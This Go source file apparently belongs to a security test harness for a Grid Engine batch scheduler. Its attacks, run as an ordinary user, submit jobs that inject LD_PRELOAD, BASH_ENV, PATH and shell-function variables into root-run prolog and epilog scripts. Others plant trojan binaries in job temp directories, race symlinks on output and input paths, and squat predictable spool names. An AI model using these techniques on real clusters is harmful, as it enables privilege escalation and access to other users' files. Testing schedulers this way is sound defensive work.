package attacker

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// environment is what a job brings for those who run around it.
var environment = Attack{
	Name: "environment", Usage: "jobs with LD_*, BASH_ENV, PATH and the like for a prolog and an epilog that run as root",
	Roles: AsUser, Local: true, Short: true, Run: submitEnvironments,
}

func submitEnvironments(ctx context.Context, f *Field) error {
	closed := f.Closed[3] // root's directory
	mark := func(name string) string { return "touch " + filepath.Join(closed, name) }
	evil, err := f.file("evil.sh", mark("by-file")+"\n", 0o755)
	if err != nil {
		return err
	}
	bin := filepath.Join(f.Dir, "bin")
	os.Mkdir(bin, 0o755)
	for _, name := range []string{"date", "hostname", "id", "touch2", "bash", "sh"} {
		if _, err := f.file("bin/"+name, "#!/bin/sh\n"+mark("by-path")+"\n", 0o755); err != nil {
			return err
		}
	}
	for _, v := range []string{
		"LD_DEBUG=libs,LD_DEBUG_OUTPUT=" + filepath.Join(closed, "by-loader"),
		"LD_PROFILE=libc.so.6,LD_PROFILE_OUTPUT=" + closed,
		"BASH_ENV=" + evil, "ENV=" + evil, "PATH=" + bin + ":/usr/bin:/bin", "SHELLOPTS=xtrace,PS4=$(" +
			mark("by-trace") + ")",
		"BASHOPTS=expand_aliases,BASH_ENV=" + evil, "IFS=/", "LD_PRELOAD=" + filepath.Join(f.Dir, "none.so"),
		"LD_LIBRARY_PATH=" + f.Dir,
		"LD_AUDIT=" + filepath.Join(f.Dir, "none.so"), "PERL5OPT=-Mevil,PERL5LIB=" + f.Dir, "PYTHONSTARTUP=" + evil,
		"TMPDIR=" + bin, "HOME=" + f.Dir,
		"SGE_ROOT=" + f.Dir, "SHELL=" + evil, "SGE_STARTER_SHELL_PATH=" + evil, "BASH_FUNC_date%%=() { " +
			mark("by-function") + "; }", "GCONV_PATH=" + f.Dir,
		"LOCPATH=" + f.Dir, "MALLOC_TRACE=" + filepath.Join(closed, "by-malloc"), "HOSTALIASES=" + evil, "NLSPATH=" + f.Dir,
	} {
		if ctx.Err() != nil {
			return nil
		}
		_, err := f.runQsub(ctx, "-o", "/dev/null", "-j", "y", "-S", "/bin/sh", "-v", v, "-b", "y", "true")
		f.count(err)
	}
	// A job that leaves programs in its TMPDIR, where an epilog may look first.
	plant, err := f.file("plant.sh", "#!/bin/sh\nfor p in date hostname id; do cp "+bin+
		"/$p $TMPDIR/; chmod 755 $TMPDIR/$p; done\n", 0o755)
	if err != nil {
		return err
	}
	_, err = f.runQsub(ctx, "-o", "/dev/null", "-j", "y", "-S", "/bin/sh", plant)
	f.count(err)
	f.pause(ctx, 500*time.Millisecond)
	return nil
}

// links leads what daemons open elsewhere.
var links = Attack{
	Name:  "links",
	Usage: "-o, -e and -i at files of others and links to them; jobs that put links in the place of their directories",
	Roles: AsUser, Local: true, Short: true, Run: submitLinks,
}

func submitLinks(ctx context.Context, f *Field) error {
	swap, err := f.file("swap.sh", `#!/bin/sh
for dir in "$TMPDIR" "$SGE_JOB_SPOOL_DIR"; do
	[ -n "$dir" ] || continue
	for to in $TARGETS; do
		ln -s "$to" "$dir/link" 2>/dev/null
		ln -s "$to" "$dir/$(basename "$to")" 2>/dev/null
	done
	mv "$dir" "$dir.was" 2>/dev/null && ln -s "${TARGETS%% *}" "$dir"
	rmdir "$dir" 2>/dev/null && ln -s "${TARGETS%% *}" "$dir"
	for file in "$dir"/*; do rm -f "$file" && ln -s "${TARGETS%% *}" "$file"; done
done
cat /proc/self/fd/* >/dev/null 2>&1 </dev/null &
exit 0
`, 0o755)
	if err != nil {
		return err
	}
	for i := 0; ctx.Err() == nil; i++ {
		for n, target := range f.Closed {
			link := filepath.Join(f.Dir, fmt.Sprint("link", n))
			os.Remove(link)
			os.Symlink(target, link)
			out := filepath.Join(f.Dir, fmt.Sprint("out", n))
			for _, words := range [][]string{
				{"-o", target, "-j", "y"}, {"-o", link, "-e", link}, {"-e", target, "-o", "/dev/null"},
				{"-o", link + "/new", "-j", "y"}, {"-wd", target, "-o", "out", "-j", "y"},
				{"-i", target, "-o", out, "-j", "y"}, {"-i", link, "-o", out, "-j", "y"},
				{"-o", "$HOME/../honest/secret", "-j", "y"},
			} {
				if ctx.Err() != nil {
					return nil
				}
				_, err := f.runQsub(ctx, append(words, "-b", "y", "cat")...)
				f.count(err)
			}
			if text, err := os.ReadFile(out); err == nil {
				f.search("standard input of a job", text)
			}
		}
		targets := strings.Join(append([]string{f.Closed[1], f.Closed[3]}, f.Closed...), " ")
		_, err := f.runQsub(ctx, "-o", "/dev/null", "-j", "y", "-S", "/bin/sh", "-v", "TARGETS="+targets, swap)
		f.count(err)
		f.race(ctx, i)
		f.run(ctx, "qdel", "-u", f.Name)
	}
	return nil
}

// race changes a link while a job starts that writes to it.
func (f *Field) race(ctx context.Context, n int) {
	link, own := filepath.Join(f.Dir, "race"), filepath.Join(f.Dir, fmt.Sprint("own", n%10))
	os.WriteFile(own, nil, 0o644)
	for range 10 {
		f.runQsub(ctx, "-o", link, "-j", "y", "-b", "y", "echo", "written by a job of the attacker")
		for i := range 200 {
			os.Remove(link)
			os.Symlink([]string{own, f.Closed[0]}[i%2], link)
		}
	}
}

// fifos are not opened at the other end.
var fifos = Attack{
	Name: "fifos", Usage: "70 jobs with -i, 20 with -o at a FIFO that no process opens, then qdel",
	Roles: AsUser, Local: true, Short: true, Run: submitFIFOs,
}

func submitFIFOs(ctx context.Context, f *Field) error {
	fifo := filepath.Join(f.Dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil && !os.IsExist(err) {
		return err
	}
	out, err := f.runQsub(ctx, "-N", "fifo", "-t", "1-70", "-i", fifo, "-o", "/dev/null", "-j", "y", "-b", "y", "true")
	f.count(err)
	first := Submitted(out)
	out, err = f.runQsub(ctx, "-N", "fifo", "-t", "1-20", "-o", fifo, "-j", "y", "-b", "y", "true")
	f.count(err)
	second := Submitted(out)
	f.pause(ctx, 3*time.Second)
	if ctx.Err() != nil {
		return nil // the director deletes them
	}
	for _, id := range []uint32{first, second} {
		_, err := f.run(ctx, "qdel", fmt.Sprint(id))
		f.count(err)
	}
	f.pause(ctx, time.Second)
	return nil
}

// directories stand where jobs want to have theirs.
var directories = Attack{
	Name: "directories", Usage: "directories, files and links in the temporary directory under the names of jobs to come",
	Roles: AsUser, Local: true, Short: true, Run: takeNames,
}

func takeNames(ctx context.Context, f *Field) error {
	out, err := f.runQsub(ctx, "-h", "-o", "/dev/null", "-j", "y", "-b", "y", "true")
	f.count(err)
	next := Submitted(out)
	if next == 0 {
		f.pause(ctx, 500*time.Millisecond)
		return nil
	}
	f.run(ctx, "qdel", fmt.Sprint(next))
	tmp := filepath.Join(filepath.Dir(f.Cell.Root), "tmp")
	for n := range uint32(2000) {
		if ctx.Err() != nil {
			return nil
		}
		name := filepath.Join(tmp, fmt.Sprintf("%d.1.all.q", next+n))
		var err error
		switch n % 4 {
		case 0:
			err = os.Mkdir(name, 0o700)
		case 1:
			err = os.Symlink(f.Closed[1], name)
		case 2:
			err = os.Symlink(f.Closed[3], name)
		case 3:
			err = os.WriteFile(name, nil, 0o600)
		}
		if !os.IsExist(err) {
			f.count(err)
		}
	}
	// And beside those that there are now.
	there, _ := os.ReadDir(tmp)
	for _, e := range there[:min(500, len(there))] {
		for _, suffix := range []string{".tmp", ".new", "~"} {
			if err := os.Symlink(f.Closed[3], filepath.Join(tmp, e.Name()+suffix)); !os.IsExist(err) {
				f.count(err)
			}
		}
	}
	f.pause(ctx, time.Second)
	return nil
}
